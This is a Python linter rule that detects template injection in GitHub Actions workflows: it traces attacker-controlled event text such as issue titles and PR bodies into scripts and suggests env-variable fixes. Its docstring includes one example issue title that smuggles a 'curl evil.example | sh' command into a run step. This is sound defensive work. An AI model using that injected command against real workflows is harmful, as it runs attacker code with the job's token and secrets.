from __future__ import annotations

import re
from dataclasses import dataclass, field

from cicdlint import lazyre
from cicdlint.contexts import classify, delivered, events_carrying, matrix_is_static
from cicdlint.envfiles import entries, writes
from cicdlint.expressions import Binary, Literal, Not, analyse, find_expressions, path_of
from cicdlint.model import as_map, as_scalar, as_seq, text
from cicdlint.rule import Issue, Location, rule
from cicdlint.shell import parse, variable_refs
from cicdlint.triggers import events, input_type, trigger_config
from cicdlint.yamlpos import Map, Scalar

# Actions whose input is code: (input, language).
CODE_INPUTS = {
    "actions/github-script": ("script", "js"),
    "azure/cli": ("inlineScript", "shell"),
    "azure/powershell": ("inlineScript", "pwsh"),
    "amadevus/pwsh-script": ("script", "pwsh"),
    "jannekem/run-python-script-action": ("script", "python"),
    "cardinalby/js-eval-action": ("expression", "js"),
}
SAFE_INPUT_TYPES = ("boolean", "number", "choice")

PR_FIELDS = ("github.head_ref", "github.event.pull_request.")
SAME_REPOSITORY = ("github.event.pull_request.head.repo.full_name", "github.event.workflow_run.head_repository.full_name")
FORK_FLAGS = ("github.event.pull_request.head.repo.fork", "github.event.workflow_run.head_repository.fork")
# Fork pull request events run the fork's own workflow file with no secrets: an injection there
# gives an attacker little they did not have.
UNPRIVILEGED_PR_EVENTS = ("pull_request", "pull_request_review", "pull_request_review_comment")
RUNNER_VARIABLES = {
    "github.head_ref": "GITHUB_HEAD_REF",
    "github.base_ref": "GITHUB_BASE_REF",
    "github.ref": "GITHUB_REF",
    "github.ref_name": "GITHUB_REF_NAME",
    "github.actor": "GITHUB_ACTOR",
    "github.triggering_actor": "GITHUB_TRIGGERING_ACTOR",
    "github.repository": "GITHUB_REPOSITORY",
    "github.event_name": "GITHUB_EVENT_NAME",
}
# classify()'s answers for paths it has no entry for: not reported (a timestamp, a runner path...).
UNCLASSIFIED = ("an event field with no known trust level", "a context with no known trust level")
RESERVED_VARIABLES = {"PATH", "HOME", "SHELL", "USER", "PWD", "IFS", "TERM", "LANG", "TMPDIR", "HOSTNAME", "CI", "ENV"}
LEVELS = {"safe": 0, "opaque": 1, "unknown": 2, "untrusted": 3}


@rule(
    id="template-injection",
    kinds=("workflow", "action"),
    severity="error",
    summary="Attacker-controllable text is expanded with `${{ }}` into a script",
    tags=("security", "injection"),
    security_severity=9.0,
    confidence="high",
    options={"report-untraced": False},
    options_schema={
        "report-untraced": {
            "type": "boolean",
            "description": "Also report (as low-confidence notes) step and job outputs, environment variables and "
            "matrix values computed at run time whose source could not be traced",
        }
    },
)
def check(doc, ctx):
    """## What it does
    Finds `${{ }}` expressions whose text an outsider controls, expanded into code: `run:`
    scripts (workflows and composite actions), the `script:` of `actions/github-script` (and the
    code inputs of `azure/cli`, `azure/powershell`, `amadevus/pwsh-script`,
    `jannekem/run-python-script-action`, `cardinalby/js-eval-action`) and the `script:` of SSH
    deploy actions such as `appleboy/ssh-action`.

    - Error: a context anyone can set, such as `github.event.issue.title`,
      `github.event.pull_request.body`, `github.event.comment.body`, `github.head_ref` or
      `github.event.head_commit.message`, also through `format()`, `join()`, `toJSON()` or `||`.
      One hop is followed where it is clear: `${{ env.NAME }}` when `NAME` is set (step, job or
      workflow `env:`, or `$GITHUB_ENV` in an earlier step) from such a context,
      `${{ steps.ID.outputs.NAME }}` when step `ID` writes the output from one, and
      `${{ needs.JOB.outputs.NAME }}` through the job's outputs. Medium confidence when only
      `pull_request` events deliver the text (a fork's run has no secrets); not reported when
      none of the workflow's triggers delivers it (the value is empty).
    - Note (low confidence): other text that is not constant: workflow and action inputs
      (`inputs.*`, `github.event.inputs.*`) except inputs of type `boolean`, `number` and
      `choice` (a `choice` under `workflow_dispatch` that `workflow_call` declares as a string
      is reported: a caller passes any text), `repository_dispatch` payloads, branch and tag names (`github.ref_name`),
      release and label text, step and job outputs not traced to a constant.

    Contexts with a fixed format (SHAs, ids, numbers, `github.repository`, logins) and
    expressions that only compare (`${{ github.event.issue.title == 'bug' }}`) are not reported.
    Passing a value through `env:` and using it as `"$VAR"` in the script is the fix, so shell
    variables are never reported here.

    ## Why is this bad?
    GitHub replaces `${{ }}` in the script's text before the shell (or Node, or Python) parses
    it, so quotes do not protect the value. An issue titled `a"; curl -sSf evil.example | sh; "`
    turns `echo "${{ github.event.issue.title }}"` into a command that runs with the job's token
    and secrets. In `pull_request_target`, `issue_comment` and `workflow_run` workflows that
    token can usually write to the repository.

    ## Example
    ```yaml
    on:
      issues:
        types: [opened]
    jobs:
      triage:
        runs-on: ubuntu-latest
        steps:
          - run: echo "New issue: ${{ github.event.issue.title }}"
          - uses: actions/github-script@v7
            with:
              script: |
                console.log("${{ github.event.issue.body }}")
    ```

    ## Use instead
    ```yaml
    on:
      issues:
        types: [opened]
    jobs:
      triage:
        runs-on: ubuntu-latest
        steps:
          - run: echo "New issue: $TITLE"
            env:
              TITLE: ${{ github.event.issue.title }}
          - uses: actions/github-script@v7
            with:
              script: |
                console.log(context.payload.issue.body)
    ```
    Put the expression in an `env:` entry and use the variable in the script (`"$TITLE"` in
    bash, `$env:TITLE` in PowerShell, `process.env.TITLE` in JavaScript); in
    `actions/github-script` read event fields from `context.payload`.
    """
    workflow = ctx.workflow if doc.kind == "workflow" else None
    triggers = events(workflow) if workflow is not None else None
    resolver = _Resolver(ctx, workflow)
    hidden = ("safe",) if ctx.options.get("report-untraced") else ("safe", "opaque")
    for step in ctx.steps():
        for scalar, language, where in _code(step):
            if "${{" not in scalar.value:
                continue
            for expression in find_expressions(scalar.value):
                origin = _expression_origin(resolver, expression, step, triggers)
                if origin is None or origin.level in hidden:
                    continue
                span = ctx.locate(scalar, expression.start, expression.length)
                yield _issue(ctx, expression, origin, language, where, span, triggers)


def _expression_origin(resolver, expression, step, triggers) -> Origin | None:
    """The least trusted origin of the text an expression expands to (None when no context flows)."""
    origin = None
    for path in expression.flowing_contexts():
        candidate = resolver.resolve(path, step, step.job)
        if candidate.level == "untrusted":
            if not delivered(candidate.source, triggers):
                continue
            if candidate.source.startswith(PR_FIELDS) and _same_repository_only(step):
                candidate = Origin(
                    "unknown",
                    candidate.source,
                    "text of a pull request from a branch of this repository (the `if:` keeps forks out): "
                    "only people with write access choose it",
                    candidate.hops,
                )
        origin = _worse(origin, candidate)
    return origin


# --- where code is ---------------------------------------------------------------------------------


def _code(step):
    """(scalar, language, where) for each piece of code in the step."""
    found = []
    for scalar, where in step.scripts():
        found.append((scalar, _language(step) if where == "run" else "shell", where))
    action = step.action_name
    if action in CODE_INPUTS:
        name, language = CODE_INPUTS[action]
        script = step.input(name)
        if script is not None:
            found.append((script, language, action))
    return found


def _language(step) -> str:
    """The language of a `run:` script: shell, pwsh or python."""
    shell = step.shell
    if shell is None and step.job is not None:
        for owner in (step.job.node, step.job.workflow.node):
            defaults = as_map(owner.get("defaults"))
            run = as_map(defaults.get("run")) if defaults else None
            if run is not None and text(run.get("shell")):
                shell = text(run.get("shell"))
                break
    if shell is not None:
        first = shell.split()[0].lower().rsplit("/", 1)[-1] if shell.split() else ""
        if first in ("pwsh", "powershell"):
            return "pwsh"
        return "python" if first.startswith("python") else "shell"
    if step.job is None:
        return "shell"
    runs_on = step.job.runs_on
    labels = [runs_on.value] if as_scalar(runs_on) else [text(item) or "" for item in as_seq(runs_on)]
    return "pwsh" if any("windows" in label.lower() for label in labels) else "shell"


# --- how far a context can be trusted --------------------------------------------------------------


@dataclass
class Origin:
    level: str  # untrusted | unknown | opaque | safe
    source: str  # the context path the text comes from
    reason: str = ""
    hops: list = field(default_factory=list)  # [(description, node)] from the expanded path to the source
    who: str = ""  # who controls the text, when the source is not a context path


SAFE = Origin("safe", "")
COMPUTED = Origin("opaque", "", "computed at run time")


def _worse(origin: Origin | None, other: Origin) -> Origin:
    """The less trusted of two origins (the first one on a tie)."""
    return other if origin is None or LEVELS[other.level] > LEVELS[origin.level] else origin


def _at_least_opaque(origin: Origin, computed: bool) -> Origin:
    """A value with a computed part (`$(...)`) is not more trusted than opaque."""
    return COMPUTED if computed and LEVELS[origin.level] < LEVELS["opaque"] else origin


class _Resolver:
    def __init__(self, ctx, workflow):
        self.ctx = ctx
        self.workflow = workflow

    def resolve(self, path: str, step, job, depth: int = 0, env=None) -> Origin:
        if depth > 6:
            return Origin("opaque", path, "too many hops to follow")
        parts = path.split(".")
        head = parts[0]
        if head == "env" and len(parts) >= 2 and parts[1] != "*":
            return self._env(parts[1], step, job, depth, env)
        if head == "steps" and len(parts) >= 4 and parts[2] == "outputs" and parts[1] != "*":
            if parts[3] == "*":
                return Origin("opaque", path)
            return self._step_output(path, parts[1], parts[3], step, job, depth)
        if head == "steps" and len(parts) >= 2 and parts[1] != "*" and len(parts) < 4 and classify(path).level != "safe":
            return Origin("opaque", path)
        if head in ("needs", "jobs") and len(parts) >= 4 and parts[2] == "outputs":
            return self._job_output(path, parts[1], parts[3], depth)
        if head == "inputs" and len(parts) >= 2:
            return self._input(path, parts[1])
        if path.startswith("github.event.inputs.") and len(parts) >= 4:
            return self._input(path, parts[3], dispatch=True)
        if head == "matrix":
            key = parts[1] if len(parts) > 1 and parts[1] != "*" else None
            if job is None or matrix_is_static(job, key):
                return SAFE
            return Origin("opaque", path, "a matrix value computed at run time")
        verdict = classify(path)
        if verdict.level == "unknown" and (head in ("steps", "needs", "jobs", "env") or verdict.reason in UNCLASSIFIED):
            return Origin("opaque", path, verdict.reason)
        return Origin(verdict.level, path, verdict.reason)

    # env.NAME

    def _env(self, name: str, step, job, depth: int, env=None) -> Origin:
        if env is None:
            env = step.env if step is not None else (job.env if job is not None else {})
        variable = env.get(name) or next((var for key, var in env.items() if key.lower() == name.lower()), None)
        if variable is not None:
            value = variable.value
            if not isinstance(value, Scalar):
                return Origin("opaque", f"env.{name}")
            # An env value reads the env of the levels around it (`GO_TAGS: ${{ env.GO_TAGS }}`).
            outer = {"step": job.env if job is not None else {}, "job": job.workflow.env if job is not None else {}}
            found = self._text(value.value, step, job, depth, outer.get(variable.level, {}))
            return _hop(found, f"env.{name}", value)
        if step is not None and job is not None and depth < 3:
            earlier = self._github_env(name, step, job, depth)
            if earlier is not None:
                return earlier
        return Origin("opaque", f"env.{name}", "an environment variable set at run time")

    def _github_env(self, name: str, step, job, depth: int) -> Origin | None:
        """env.NAME written to $GITHUB_ENV by an earlier step of the job."""
        found = None
        for earlier in job.steps:
            if earlier is step:
                break
            for scalar, where in earlier.scripts():
                if where != "run" or name not in scalar.value:
                    continue
                for entry in entries(writes(scalar.value), "GITHUB_ENV"):
                    if entry.name != name:
                        continue
                    origin = _hop(
                        self._parts(entry.parts, scalar.value, earlier, job, depth),
                        f"env.{name}",
                        scalar,
                        "written to $GITHUB_ENV by an earlier step",
                    )
                    found = _worse(found, origin)
        return found

    # steps.ID.outputs.NAME

    def _step_output(self, path: str, step_id: str, name: str, step, job, depth: int) -> Origin:
        steps = job.steps if job is not None else (step.action.steps() if step is not None and step.action else [])
        producer = next((candidate for candidate in steps if candidate.id == step_id), None)
        if producer is None or depth >= 3:
            return Origin("opaque", path, "a step output")
        if producer.run is None:
            return Origin("opaque", path, "an output of an action")
        script = producer.run.value
        origin = None
        for entry in entries(writes(script), "GITHUB_OUTPUT"):
            if entry.name != name:
                continue
            origin = _worse(origin, self._parts(entry.parts, script, producer, job, depth))
        if origin is None:
            return Origin("opaque", path, "a step output")
        return _hop(origin, path, producer.run, f"written by step '{step_id}'")

    # needs.JOB.outputs.NAME

    def _job_output(self, path: str, job_id: str, name: str, depth: int) -> Origin:
        producer = self.workflow.job(job_id) if self.workflow is not None else None
        outputs = producer.outputs if producer is not None else None
        value = outputs.get(name) if outputs is not None else None
        if not isinstance(value, Scalar) or depth >= 3:
            return Origin("opaque", path, "a job output")
        found = self._text(value.value, None, producer, depth)
        return _hop(found, path, value, f"an output of job '{job_id}'")

    # inputs

    def _input(self, path: str, name: str, dispatch: bool = False) -> Origin:
        if self.workflow is None:
            return Origin("unknown", path, "an input of the action: its caller chooses the text")
        kind = input_type(self.workflow, name) if dispatch else _input_kind(self.workflow, name)
        if kind in SAFE_INPUT_TYPES:
            return SAFE
        if dispatch:
            return Origin("unknown", path, "a workflow_dispatch input: whoever runs the workflow chooses the text")
        return Origin("unknown", path, "a workflow input: whoever runs or calls the workflow chooses the text")

    # values

    def _text(self, value: str, step, job, depth: int, env=None) -> Origin:
        """The worst origin of the expressions in a text (an env value, a job output)."""
        worst = SAFE
        for expression in find_expressions(value):
            for path in expression.flowing_contexts():
                worst = _worse(worst, self.resolve(path, step, job, depth + 1, env))
        return worst

    def _parts(self, parts, script: str, step, job, depth: int) -> Origin:
        """The worst origin of a value written to a command file (expressions and $VARs in it)."""
        worst = SAFE
        assigned = None
        for part in parts:
            if part.kind != "text":
                worst = _worse(worst, COMPUTED)
                continue
            # What `$(...)` and backquotes print is computed: the expressions in them are the
            # command, not the value.
            value, computed = _without_substitutions(part.text)
            candidate = _fetched_text(part.text, script) or self._text(value, step, job, depth)
            if not part.quoted_heredoc:
                for variable, _, _, is_length in variable_refs(value):
                    if is_length:
                        continue
                    if assigned is None:
                        assigned = _assignments(script)
                    candidate = _worse(candidate, self._variable(variable, assigned, script, step, job, depth))
            worst = _worse(worst, _at_least_opaque(candidate, computed))
        return worst

    def _variable(self, name: str, assigned: dict, script: str, step, job, depth: int) -> Origin:
        """The origin of `$NAME` in a script: its assignment in the script, else the step's env."""
        if name in assigned:
            value, computed = _without_substitutions(assigned[name])
            found = _fetched_text(assigned[name], script) or self._text(value, step, job, depth)
            return _at_least_opaque(found, computed)
        if step is not None and name in step.env:
            return self._env(name, step, job, depth + 1)
        return COMPUTED


def _hop(origin: Origin, description: str, node, how: str = "") -> Origin:
    if origin.level in ("safe", "opaque"):
        return Origin(origin.level, origin.source or description, origin.reason)
    return Origin(origin.level, origin.source, origin.reason, [(description, node, how)] + origin.hops, origin.who)


_FETCH = lazyre.compile(r"\b(?:gh|jq|curl|git)\b")
_FETCHED_FIELD = lazyre.compile(
    r"""(?:--json\s+[\w,]*\b|--jq\s+["']?\.|jq\s+(?:-\w+\s+)*["']?[\w\[\]]*\.)(title|body|headRefName|message)\b"""
)
# Where a pull request's or an issue's text comes from (not a milestone or a release).
_FETCH_SOURCE = lazyre.compile(r"\bgh\s+(?:pr|issue)\s+(?:view|list)\b|/pulls\b|/issues\b|\bpulls\.get\b")
_COMMIT_TEXT = lazyre.compile(r"\bgit\s+(?:log|show)\b[^)]*--(?:pretty|format)=(?:format:)?[^)]*%(?:s|b|B|an|ae|cn|ce)")


def _fetched_text(value: str, script: str) -> Origin | None:
    """Text a command substitution fetches that an outsider writes: a pull request's or an issue's
    title or body read with `gh` / `jq`, a commit message read with `git log --format=%s`."""
    if "$(" not in value and "`" not in value:
        return None
    if _COMMIT_TEXT.search(value):
        return Origin(
            "untrusted", "a commit message read with `git log`", "commit text",
            who="Whoever writes the commits controls the commit message this reads",
        )
    match = _FETCHED_FIELD.search(value)
    if match and _FETCH.search(value) and (_FETCH_SOURCE.search(value) or _FETCH_SOURCE.search(script)):
        field_name = match.group(1)
        return Origin(
            "untrusted", f"the {field_name} that the command reads", "text fetched from GitHub",
            who=f"Anyone who can open a pull request or an issue controls the {field_name} this command reads",
        )
    return None


def _without_substitutions(text_: str) -> tuple[str, bool]:
    """The text with `$(...)` and backquoted commands removed, and whether there were any."""
    out, i, found = [], 0, False
    while i < len(text_):
        if text_.startswith("$((", i):
            out.append(text_[i])
            i += 1
        elif text_.startswith("$(", i):
            depth, j = 1, i + 2
            while j < len(text_) and depth:
                depth += {"(": 1, ")": -1}.get(text_[j], 0)
                j += 1
            i, found = j, True
        elif text_[i] == "`":
            end = text_.find("`", i + 1)
            i, found = (len(text_) if end < 0 else end + 1), True
        else:
            out.append(text_[i])
            i += 1
    return "".join(out), found


def _assignments(script: str) -> dict[str, str]:
    """Shell variables assigned in a script: name -> the assigned text (the last assignment)."""
    found = {}
    for command in parse(script):
        words = list(command.assignments)
        if command.name in ("export", "local", "declare", "readonly", "typeset"):
            words += [word for word in command.args if "=" in word.text]
        for word in words:
            name, _, value = word.text.partition("=")
            found[name.rstrip("+")] = value
    return found


def _same_repository_only(step) -> bool:
    """Does the step's or its job's `if:` only let pull requests from this repository's branches in?"""
    for node in (step.if_, step.job.if_ if step.job is not None else None):
        if not isinstance(node, Scalar):
            continue
        found = find_expressions(node.value)
        body = found[0].body if len(found) == 1 else node.value
        analysis = analyse(body)
        if analysis.parsed and any(_keeps_forks_out(term) for term in _conjuncts(analysis.tree)):
            return True
    return False


def _conjuncts(tree):
    if isinstance(tree, Binary) and tree.op == "&&":
        return _conjuncts(tree.left) + _conjuncts(tree.right)
    return [tree]


def _keeps_forks_out(term) -> bool:
    if isinstance(term, Not):
        return path_of(term.operand) in FORK_FLAGS
    if not isinstance(term, Binary) or term.op not in ("==", "!="):
        return False
    for side, other in ((term.left, term.right), (term.right, term.left)):
        path = path_of(side)
        if term.op == "==" and path in SAME_REPOSITORY:
            if path_of(other) == "github.repository":
                return True
            if isinstance(other, Literal) and isinstance(other.value, str) and "/" in other.value:
                return True
        if path in FORK_FLAGS and isinstance(other, Literal) and isinstance(other.value, bool):
            return (term.op == "==") == (other.value is False)
    return False


def _only_unprivileged(source: str, triggers) -> bool:
    carriers = events_carrying(source)
    if not triggers or "workflow_call" in triggers or carriers is None:
        return False
    delivering = [event for event in triggers if event in carriers]
    return bool(delivering) and all(event in UNPRIVILEGED_PR_EVENTS for event in delivering)


# --- messages --------------------------------------------------------------------------------------


_WHO = [
    ("github.event.issue.", "Anyone who can open an issue controls {path}"),
    ("github.event.pull_request.head.repo.", "The owner of the pull request's fork sets {path}"),
    ("github.event.pull_request.head.", "Anyone who opens a pull request chooses its branch name, {path}"),
    ("github.head_ref", "Anyone who opens a pull request chooses its branch name, {path}"),
    ("github.event.pull_request.", "Anyone who can open a pull request controls {path}"),
    ("github.event.comment.", "Anyone who can comment controls {path}"),
    ("github.event.review.", "Anyone who can review a pull request controls {path}"),
    ("github.event.review_comment.", "Anyone who can review a pull request controls {path}"),
    ("github.event.discussion.", "Anyone who can start a discussion controls {path}"),
    ("github.event.answer.", "Anyone who can answer a discussion controls {path}"),
    ("github.event.pages.", "Anyone who can edit the wiki controls {path}"),
    ("github.event.changes.", "Anyone who can edit an issue or a pull request controls {path}"),
    ("github.event.workflow_run.head_commit.", "Whoever writes the commits of the triggering run controls {path}"),
    ("github.event.workflow_run.", "Whoever opens the pull request behind the triggering run controls {path}"),
    ("github.event.commits.", "Whoever writes the commits (also commits merged from pull requests) controls {path}"),
    ("github.event.head_commit.", "Whoever writes the commits (also commits merged from pull requests) controls {path}"),
    ("github.event.merge_group.", "Whoever writes the commits of the merged pull requests controls {path}"),
    ("github.event.check_suite.", "Whoever pushes the branch or commits being checked controls {path}"),
    ("github.event.check_run.", "Whoever pushes the branch being checked controls {path}"),
]


def _who(source: str, who: str = "") -> str:
    if who:
        return who
    for prefix, sentence in _WHO:
        if source.startswith(prefix):
            return sentence.format(path=source)
    return f"{source} is {classify(source).reason}"


def _variable_name(path: str) -> str:
    parts = [part for part in path.split(".") if part not in ("*", "")]
    if parts[:2] == ["github", "event"]:
        parts = parts[2:]
        if parts and parts[0] in ("inputs", "client_payload") and len(parts) > 1:
            parts = parts[1:]
        if len(parts) > 2:
            parts = parts[-2:]
        if parts and parts[0] in ("commits",):
            parts[0] = "commit"
    elif parts and parts[0] in ("env", "inputs", "matrix", "vars"):
        parts = parts[1:]
    elif parts and parts[0] in ("steps", "needs", "jobs") and len(parts) >= 4:
        parts = parts[3:]
    else:
        parts = parts[-1:]
    words = "_".join(re.sub(r"(?<=[a-z0-9])(?=[A-Z])", "_", part) for part in parts)
    name = re.sub(r"[^A-Za-z0-9]+", "_", words).strip("_").upper() or "VALUE"
    if name[0].isdigit() or name in RESERVED_VARIABLES or name.startswith(("GITHUB_", "RUNNER_", "ACTIONS_")):
        name = "INPUT_" + name if path.startswith(("inputs.", "github.event.inputs.")) else "CI_" + name
    return name


def _use(language: str, name: str) -> str:
    return {
        "pwsh": f"$env:{name}",
        "python": f'os.environ["{name}"]',
        "js": f"process.env.{name}",
    }.get(language, f'"${name}"')


def _issue(ctx, expression, origin: Origin, language: str, where: str, span, triggers) -> Issue:
    body = expression.body
    single = path_of(expression.tree) if expression.tree is not None else None
    related = [
        Location(ctx.doc.path, ctx.span(node), f"{description} is {how}" if how else f"{description} is set here")
        for description, node, how in origin.hops
    ]
    fix = _fix(single, origin, body, language, where)
    carried = _carried([hop[0] for hop in origin.hops])
    if origin.level == "untrusted":
        tail = f"{_who(origin.source, origin.who)}{carried}, and ${{{{ }}}} pastes it into the {_kind(language, where)} before it runs."
        unprivileged = _only_unprivileged(origin.source, triggers)
        if unprivileged:
            tail += " Only pull_request events deliver it here, and a fork's run gets no secrets."
        confidence = "medium" if unprivileged or _via_output(origin) else None
        return Issue(span, f"{fix}. {tail}", confidence=confidence, related=related)
    reason = origin.reason or classify(origin.source).reason
    if not origin.hops and single is not None and single == origin.source:
        tail = f"It is {reason}"
    else:
        tail = f"{origin.source} is {reason}{carried}"
    return Issue(
        span,
        f"{fix}. {tail}, and its text becomes part of the {_kind(language, where)}.",
        severity="note",
        confidence="low",
        related=related,
    )


def _carried(hops: list[str]) -> str:
    """", env.X is set from it through steps.Y.outputs.Z": how the text reaches the expression."""
    if not hops:
        return ""
    return f", {hops[0]} is set from it" + (f" through {', '.join(hops[1:])}" if hops[1:] else "")


def _via_output(origin: Origin) -> bool:
    return any(hop[0].startswith(("steps.", "needs.", "jobs.")) for hop in origin.hops)


def _kind(language: str, where: str) -> str:
    if where == "ssh":
        return "remote shell script"
    return {"js": "JavaScript", "python": "Python script", "pwsh": "PowerShell script"}.get(language, "shell script")


def _fix(single: str | None, origin: Origin, body: str, language: str, where: str) -> str:
    if single is not None and single.startswith("env.") and where == "run":
        return f"Use {_use(language, single.split('.', 1)[1])} in the script instead of ${{{{ {body} }}}}"
    if single in RUNNER_VARIABLES and language in ("shell", "pwsh") and where == "run":
        name = RUNNER_VARIABLES[single]
        return f"Use {_use(language, name)} (set by the runner) instead of expanding {single} in the script"
    name = _variable_name(single or origin.source)
    subject = single or f"${{{{ {body} }}}}"
    if language == "js" and single is not None and single.startswith("github.event."):
        return (
            f"Read {single} from context.payload.{single[len('github.event.'):]} (or pass it through env: and "
            f"process.env.{name}) instead of expanding it in the script"
        )
    if where == "ssh":
        return (
            f"Pass {subject} to the remote script through the step's env: ({name}: ${{{{ {body} }}}}) and the "
            f"action's envs: input, then use \"${name}\", instead of expanding it in the script"
        )
    return (
        f"Pass {subject} to the script through an environment variable (env: {name}: ${{{{ {body} }}}}, then "
        f"{_use(language, name)}) instead of expanding it in the script"
    )


def _input_kind(workflow, name: str) -> str | None:
    """The type of `inputs.NAME`: a `choice` under workflow_dispatch does not make it safe when
    `workflow_call` declares the same input as a string (a caller passes any text)."""
    kinds = []
    for event in ("workflow_dispatch", "workflow_call"):
        config = trigger_config(workflow, event)
        inputs = config.get("inputs") if config is not None else None
        definition = inputs.get(name) if isinstance(inputs, Map) else None
        if isinstance(definition, Map):
            kind = definition.get("type")
            kinds.append(kind.value if isinstance(kind, Scalar) else "string")
    unsafe = [kind for kind in kinds if kind not in SAFE_INPUT_TYPES]
    return unsafe[0] if unsafe else (kinds[0] if kinds else None)
